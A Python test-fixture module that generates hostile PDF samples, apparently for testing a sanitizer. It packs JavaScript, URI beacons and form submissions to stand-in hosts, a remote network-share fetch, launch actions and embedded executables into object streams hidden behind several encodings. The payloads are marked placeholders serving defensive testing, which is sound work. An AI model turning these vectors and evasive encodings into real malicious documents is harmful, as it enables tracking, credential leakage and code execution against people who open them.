"""Hostile PDFs built byte by byte: active content hidden in every encoding a reader decodes.

Each sample is a real one-page document (its page says ``Hello``) with something a viewer would
run, fetch or reveal, marked by a ``SECRET`` string so a test can prove none of it survives.
The objects that carry the payload sit in an object stream whose encoding varies: ASCIIHex,
ASCII85, a filter chain, Flate with a PNG predictor, plain Flate behind a decoy ``stream``
keyword, and no object stream at all. A cross-reference stream locates them, as in the PDFs
word processors write.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable

Encoder = Callable[[bytes], bytes]
HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CONTENT = b"BT /F1 24 Tf 72 720 Td (Hello) Tj ET"


def ascii_hex(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def ascii85(data: bytes) -> bytes:
    return base64.a85encode(data, wrapcol=72) + b"~>"


def png_up(data: bytes, columns: int = 16) -> bytes:
    """Flate over rows encoded with the PNG "Up" predictor (each byte minus the one above)."""
    data += b" " * (-len(data) % columns)
    rows, previous = [], bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start:start + columns]
        rows.append(b"\x02" + bytes((a - b) % 256 for a, b in zip(row, previous, strict=True)))
        previous = row
    return zlib.compress(b"".join(rows))


# name -> (filter entries, decode parameters, encoder, extra dictionary text)
ENCODINGS: dict[str, tuple[bytes, bytes, Encoder, bytes]] = {
    "asciihex": (b"/ASCIIHexDecode", b"", ascii_hex, b""),
    "ascii85": (b"/ASCII85Decode", b"", ascii85, b""),
    "filter-chain": (b"[/ASCII85Decode/ASCIIHexDecode/FlateDecode]", b"",
                     lambda d: ascii85(ascii_hex(zlib.compress(d))), b""),
    "png-predictor": (b"/FlateDecode", b"/DecodeParms<</Predictor 12/Colors 1/Columns 16>>",
                      png_up, b""),
    "decoy-stream-keyword": (b"/FlateDecode", b"", zlib.compress, b"/Decoy(stream\n)"),
}


def build(objects: dict[int, bytes], packed: dict[int, bytes], encoding: str | None,
          trailer_extra: bytes = b"") -> bytes:
    """A PDF with ``objects`` written plainly and ``packed`` inside one encoded object stream.

    Object 1 must be the catalogue. ``encoding`` None writes the packed objects plainly too.
    """
    if encoding is None:
        objects, packed = {**objects, **packed}, {}
    out = bytearray(HEADER)
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max([*objects, *packed]) + 1
    stream_number = size if packed else None
    if packed:
        filters, parms, encode, extra = ENCODINGS[encoding]
        index = b""
        data = b""
        for number, body in sorted(packed.items()):
            index += b"%d %d " % (number, len(data))
            data += body + b"\n"
        encoded = encode(index + data)
        offsets[stream_number] = len(out)
        out += (b"%d 0 obj\n<</Type/ObjStm/N %d/First %d%s/Filter%s%s/Length %d>>stream\n"
                % (stream_number, len(packed), len(index), extra, filters, parms, len(encoded)))
        out += encoded + b"\nendstream\nendobj\n"
        size += 1
    xref_number = size
    size += 1
    offsets[xref_number] = len(out)
    rows = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
    packed_order = sorted(packed)
    for number in range(1, size):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in packed:
            rows += b"\x02" + stream_number.to_bytes(4, "big") + \
                packed_order.index(number).to_bytes(2, "big")
        else:
            rows += b"\x00" + bytes(4) + b"\xff\xff"
    out += (b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R%s/Length %d>>stream\n"
            % (xref_number, size, trailer_extra, len(rows)))
    out += bytes(rows) + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def page_objects(page_extra: bytes = b"") -> dict[int, bytes]:
    """Pages (2), a page (3), its content (4) and font (9): the plain part of every sample."""
    return {
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
           b"/Resources<</Font<</F1 9 0 R>>>>" + page_extra + b">>",
        4: b"<</Length %d>>stream\n%s\nendstream" % (len(CONTENT), CONTENT),
        9: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }


# name -> (catalogue entries, packed objects, page entries)
PAYLOADS: dict[str, tuple[bytes, dict[int, bytes], bytes]] = {
    "javascript-open-action": (
        b"/OpenAction 5 0 R", {5: b"<</S/JavaScript/JS(app.alert\\('SECRET-JS'\\))>>"}, b""),
    "uri-open-action": (
        b"/OpenAction 5 0 R", {5: b"<</S/URI/URI(http://beacon.example/SECRET-URI)>>"}, b""),
    "additional-action-submit-form": (
        b"", {5: b"<</S/SubmitForm/F<</FS/URL/F(http://collect.example/SECRET-SUBMIT)>>>>"},
        b"/AA<</O 5 0 R>>"),
    "goto-remote-network-share": (
        b"/OpenAction 5 0 R",
        {5: b"<</S/GoToR/F(\\\\\\\\attacker\\\\SECRET-SHARE\\\\x.pdf)/D[0/Fit]>>"}, b""),
    "launch": (b"/OpenAction 5 0 R", {5: b"<</S/Launch/F(SECRET-LAUNCH.exe)>>"}, b""),
    "javascript-name-tree": (
        b"/Names<</JavaScript 5 0 R>>",
        {5: b"<</Names[(x)<</S/JavaScript/JS(SECRET-NAMED-JS)>>]>>"}, b""),
    "xfa-script": (
        b"/AcroForm 5 0 R",
        {5: b"<</Fields[]/XFA[(template)6 0 R]>>"}, b""),
    "embedded-file": (
        b"/Names<</EmbeddedFiles 5 0 R>>",
        {5: b"<</Names[(SECRET-NAME.exe)<</Type/Filespec/F(SECRET-NAME.exe)/EF<</F 6 0 R>>>>]>>"},
        b""),
    "link-to-uri": (
        b"", {5: b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]"
                 b"/A<</S/URI/URI(http://beacon.example/SECRET-LINK)>>>>"},
        b"/Annots[5 0 R]"),
    "file-attachment-annotation": (
        b"", {5: b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]"
                 b"/FS<</Type/Filespec/F(SECRET-ATTACHED.exe)/EF<</F 6 0 R>>>>>>"},
        b"/Annots[5 0 R]"),
    "chained-next-action": (
        b"/OpenAction 5 0 R",
        {5: b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(SECRET-NEXT)>>>>"}, b""),
}
# Streams the payloads point at (a stream can't live in an object stream).
PAYLOAD_STREAMS = {
    "xfa-script": b"<xdp:xdp><template><script>SECRET-XFA</script></template></xdp:xdp>",
    "embedded-file": b"MZ SECRET-EMBEDDED-PROGRAM",
    "file-attachment-annotation": b"MZ SECRET-EMBEDDED-PROGRAM",
}


def hostile(payload: str, encoding: str | None) -> bytes:
    catalog, packed, page_extra = PAYLOADS[payload]
    objects = page_objects(page_extra)
    objects[1] = b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>"
    if payload in PAYLOAD_STREAMS:
        body = PAYLOAD_STREAMS[payload]
        kind = b"/Type/EmbeddedFile" if b"MZ" in body else b""
        packed_body = zlib.compress(body)
        objects[6] = b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (
            kind, len(packed_body), packed_body)
    return build(objects, packed, encoding)


def with_metadata() -> bytes:
    """A document as a word processor exports it: author in /Info and XMP, a commented note."""
    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
           b"<dc:creator>SECRET-XMP-AUTHOR</dc:creator></x:xmpmeta><?xpacket end=\"w\"?>")
    objects = page_objects(b"/Annots[6 0 R]/PieceInfo<</Word<</Private(SECRET-PIECE)>>>>")
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/Metadata 5 0 R>>"
    objects[5] = b"<</Type/Metadata/Subtype/XML/Length %d>>stream\n%s\nendstream" % (len(xmp), xmp)
    objects[6] = (b"<</Type/Annot/Subtype/Text/Rect[0 0 20 20]/T(SECRET-COMMENT-AUTHOR)"
                  b"/Contents(see page 2)>>")
    objects[7] = (b"<</Author(SECRET-AUTHOR)/Creator(SECRET-CREATOR)/Producer(SECRET-PRODUCER)"
                  b"/Title(Letter)>>")
    return build(objects, {}, None, trailer_extra=b"/Info 7 0 R")


def with_photo(jpeg: bytes) -> bytes:
    """A scanned page: a phone's JPEG, EXIF and GPS included, placed as the page's image."""
    objects = page_objects()
    objects[1] = b"<</Type/Catalog/Pages 2 0 R>>"
    objects[3] = (b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
                  b"/Resources<</XObject<</Im1 5 0 R>>>>>>")
    draw = b"q 40 0 0 20 72 700 cm /Im1 Do Q"
    objects[4] = b"<</Length %d>>stream\n%s\nendstream" % (len(draw), draw)
    objects[5] = (b"<</Type/XObject/Subtype/Image/Width 40/Height 20/ColorSpace/DeviceRGB"
                  b"/BitsPerComponent 8/Filter/DCTDecode/Length %d>>stream\n%s\nendstream"
                  % (len(jpeg), jpeg))
    return build(objects, {}, None)
